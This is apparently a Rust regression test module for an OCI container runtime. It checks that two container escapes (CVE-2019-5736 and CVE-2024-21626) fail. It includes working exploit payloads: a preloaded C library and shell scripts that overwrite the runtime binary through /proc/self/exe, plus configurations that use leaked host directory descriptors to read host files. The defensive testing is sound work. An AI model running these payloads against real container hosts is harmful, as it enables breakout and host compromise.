//! Attacks by what a runtime has open: its own program, and directories of the host.

use std::fmt::Write as _;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::Command;

use serde_json::json;

use super::super::many::on_a_slow_machine;
use super::super::{Oci, eventually};
use super::up_and_down;
use crate::case::{Doing, Outcome, check, check_eq};
use crate::output::run;

/// Loaded into every dynamic program of the container by /etc/ld.so.preload: in the runtime's own, it takes hold of that file
/// and becomes a shell that writes to it, as soon as nobody executes it any more. busybox it leaves alone: the shell is that.
const PRELOADED: &str = r#"
#include <fcntl.h>
#include <string.h>
#include <unistd.h>
extern char **environ;
__attribute__((constructor)) static void attack(void) {
    char self[4096] = "";
    if (readlink("/proc/self/exe", self, sizeof self - 1) > 0 && strstr(self, "/busybox")) return;
    int fd = open("/proc/self/exe", O_RDONLY);
    if (fd < 0 || dup2(fd, 9) < 0) return;
    char *words[] = { "sh", "/bin/overwrite", 0 };
    execve("/bin/sh", words, environ);
}
"#;

const OVERWRITE: &str = r#"
echo began >>/tmp/seen
i=0
while [ $i -lt 25 ]; do
    echo changed 2>/dev/null >/proc/self/fd/9 && { echo written >>/tmp/seen; break; }
    busybox chmod 777 /proc/self/fd/9 2>/dev/null && echo mode >>/tmp/seen
    i=$((i + 1)); sleep 0.02
done
echo ended >>/tmp/seen
"#;

/// Looks at the programs of all processes that it sees, and writes to each that is not its own.
const WATCH: &str = r#"
while :; do
    for process in /proc/[0-9]*; do
        case $(busybox readlink $process/exe 2>/dev/null) in
            '' | */busybox) ;;
            *) (exec 9<$process/exe && sh /bin/overwrite) 2>/dev/null & ;;
        esac
    done
    sleep 0.05
done
"#;

/// The runtime's program is overwritten through /proc/self/exe by what it was led to execute, or through /proc/PID/exe.
pub fn cve_2019_5736() -> Outcome {
    let mut oci = Oci::new("cve-2019-5736", WATCH)?;
    let root = oci.bundle.root();
    let runtime = oci.bundle.dir.join("runtime");
    std::fs::copy(&oci.runtime, &runtime)?;
    oci.runtime.clone_from(&runtime);
    oci.bundle.add_libraries(&runtime)?;
    std::fs::write(oci.bundle.dir.join("attack.c"), PRELOADED)?;
    run(Command::new("cc")
        .args(["-shared", "-fPIC", "-o"])
        .arg(root.join("preloaded.so"))
        .arg(oci.bundle.dir.join("attack.c")))?
    .ok()
    .doing("cc")?;
    std::fs::write(root.join("etc/ld.so.preload"), "/preloaded.so\n")?;
    std::fs::write(root.join("bin/overwrite"), OVERWRITE)?;
    for (name, line) in [("self", "#!/proc/self/exe\n"), ("thread", "#!/proc/thread-self/exe\n")] {
        std::fs::write(root.join("bin").join(name), line)?;
        std::fs::set_permissions(root.join("bin").join(name), PermissionsExt::from_mode(0o755))?;
    }
    oci.change(|config| {
        config["root"]["readonly"] = json!(false);
        // the most that an administrator would give
        let rights = json!(["CAP_SYS_PTRACE", "CAP_DAC_OVERRIDE", "CAP_FOWNER", "CAP_KILL"]);
        for set in ["bounding", "effective", "permitted", "inheritable", "ambient"] {
            config["process"]["capabilities"][set] = rights.clone();
        }
    })?;
    let before = (std::fs::read(&runtime)?, std::fs::metadata(&runtime)?.permissions());
    let id = oci.id.clone();
    oci.leave(&["run", "--detach", &id])?;
    for program in ["/bin/self", "/bin/thread", "/proc/self/exe"] {
        // it ends well or badly; nobody else may hold the program open when the shell tries
        let _ = oci.leave(&["exec", "--detach", &id, program]);
    }
    for _ in 0..4 {
        oci.run(&["exec", &id, "true"])?;
    }
    let seen = || std::fs::read_to_string(root.join("tmp/seen")).unwrap_or_default();
    eventually("the attacks ended", || {
        let seen = seen();
        let count = |word: &str| seen.lines().filter(|line| *line == word).count();
        Ok(count("began") >= 2 && count("ended") == count("began"))
    })?;
    oci.run(&["delete", "--force", &id])?;
    // and as the container's own process
    oci.change(|config| config["process"]["args"] = json!(["/bin/self"]))?;
    let _ = oci.output(&["run", &id])?;
    let seen = seen();
    check!(!seen.contains("written") && !seen.contains("mode"), "what the attack did: {seen}");
    check!(std::fs::read(&runtime)? == before.0, "the runtime's program was changed");
    check_eq!(std::fs::metadata(&runtime)?.permissions(), before.1, "mode of the runtime's program");
    oci.nothing_is_left()
}

/// A command of a caller that has directories of the host open, as shims do.
fn leaking(oci: &Oci, words: &[&str]) -> Outcome<Command> {
    let plain = oci.command(words)?;
    let mut command = Command::new("sh");
    command.args(["-c", "exec \"$@\" 3</ 4</ 5</ 8</", "sh"]).arg(plain.get_program()).args(plain.get_args());
    command.current_dir(&oci.bundle.dir);
    Ok(command)
}

/// Numbers that an open directory could have.
fn numbers() -> std::ops::RangeInclusive<u32> {
    if on_a_slow_machine() { 3..=9 } else { 3..=14 }
}

/// A directory of the host is open in the container: as its working directory, as part of a program's path or of a script's
/// first line, it leads out.
pub fn cve_2024_21626() -> Outcome {
    let oci = Oci::new("cve-2024-21626", "ls /proc/self/fd")?;
    let id = oci.id.clone();
    let outside = oci.bundle.dir.join("outside");
    std::fs::create_dir(&outside)?;
    std::fs::write(outside.join("secret"), "of the host\n")?;
    std::fs::copy("/bin/busybox", outside.join("busybox"))?;
    let program = up_and_down(&outside.join("busybox"));
    let secret = up_and_down(&outside.join("secret"));
    for number in numbers() {
        let script = oci.bundle.root().join(format!("bin/script-{number}"));
        let text = format!("#!/proc/self/fd/{number}/{} sh\necho escaped\n", program.display());
        std::fs::write(&script, text)?;
        std::fs::set_permissions(&script, PermissionsExt::from_mode(0o755))?;
    }
    let open = |output: String| output.split_whitespace().map(str::to_owned).collect::<Vec<_>>();

    // what is open: the first three and what is passed on; one more is that of ls
    let output = run(&mut leaking(&oci, &["run", &id])?)?.ok().doing("run")?;
    check_eq!(open(output), ["0", "1", "2", "3"], "open in a container's process");
    let output = run(&mut leaking(&oci, &["run", "--preserve-fds", "2", &id])?)?.ok().doing("run")?;
    check_eq!(open(output), ["0", "1", "2", "3", "4", "5"], "with --preserve-fds 2");

    let escapes = |words: &[&str], what: &str| -> Outcome {
        let output = run(&mut leaking(&oci, words)?)?;
        let said = format!("{}{}", output.stdout, output.stderr);
        check!(!said.contains("of the host") && !output.stdout.contains("escaped"), "{what}: {said}");
        check!(output.code != 0, "{what} was done: {said}");
        Ok(())
    };
    let show = format!("cat {}", secret.display());
    for number in numbers() {
        let directory = format!("/proc/self/fd/{number}");
        let host = format!("{directory}/{}", program.display());
        let attempts = [
            (directory.as_str(), json!(["sh", "-c", show])),
            ("/", json!([host, "sh", "-c", "echo escaped"])),
            ("/", json!([format!("/bin/script-{number}")])),
        ];
        for (cwd, args) in attempts {
            oci.change(|config| {
                config["process"]["cwd"] = json!(cwd);
                config["process"]["args"] = args.clone();
            })?;
            escapes(&["run", &id], &format!("run of {args} in {cwd}"))?;
        }
    }
    oci.nothing_is_left()?;

    oci.change(|config| {
        config["process"]["cwd"] = json!("/");
        config["process"]["args"] = json!(["sleep", "600"]);
    })?;
    oci.leave(&["create", &id])?;
    // while it waits, others in its pid namespace could use what is open
    let pid = oci.state()?["pid"].as_i64().doing("pid")?;
    let listed = directories(&format!("/proc/{pid}/fd"))?;
    check_eq!(listed, "", "directories that a created container's process has open");
    oci.run(&["start", &id])?;
    let output = run(&mut leaking(&oci, &["exec", &id, "ls", "/proc/self/fd"])?)?.ok().doing("exec")?;
    check_eq!(open(output), ["0", "1", "2", "3"], "open in a process of exec");
    let words = ["exec", "--preserve-fds", "1", &id, "ls", "/proc/self/fd"];
    let output = run(&mut leaking(&oci, &words)?)?.ok().doing("exec")?;
    check_eq!(open(output), ["0", "1", "2", "3", "4"], "of exec with --preserve-fds 1");
    for number in numbers() {
        let directory = format!("/proc/self/fd/{number}");
        let host = format!("{directory}/{}", program.display());
        escapes(&["exec", "--cwd", &directory, &id, "sh", "-c", &show], &format!("exec in {directory}"))?;
        escapes(&["exec", &id, &host, "sh", "-c", "echo escaped"], &format!("exec of {host}"))?;
        let script = format!("/bin/script-{number}");
        escapes(&["exec", &id, &script], &format!("exec of {script}"))?;
    }
    oci.run(&["delete", "--force", &id])?;
    oci.nothing_is_left()
}

/// Those of a list of descriptors that are directories.
fn directories(list: &str) -> Outcome<String> {
    let mut found = String::new();
    for entry in std::fs::read_dir(list).doing(list)? {
        let path = entry?.path();
        if std::fs::metadata(&path).is_ok_and(|meta| meta.is_dir()) {
            let to = std::fs::read_link(&path)?;
            let _ = write!(found, "{} -> {} ", path.display(), Path::new(&to).display());
        }
    }
    Ok(found)
}
